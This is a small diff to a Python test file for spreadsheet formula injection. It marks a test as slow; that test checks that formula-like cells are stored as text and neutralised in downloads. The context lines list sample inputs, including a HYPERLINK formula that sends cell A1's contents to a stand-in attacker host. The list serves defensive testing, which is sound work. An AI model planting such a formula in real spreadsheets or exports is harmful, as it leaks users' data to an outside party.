@@ -110,6 +110,7 @@ FORMULAS = ['=HYPERLINK("http://angriber.example/?d="&A1;"Klik her")', "+1+2 PAU
             "@SUM(A1:A9) AMU", "\tPAU med tab", "\rPAU med CR", "  =1+1 AMU"]
 
 
+@pytest.mark.slow
 def test_formula_cells_are_text_on_input_and_neutralised_in_the_download(
         api_server: Server) -> None:
     from ui.client import ApiClient
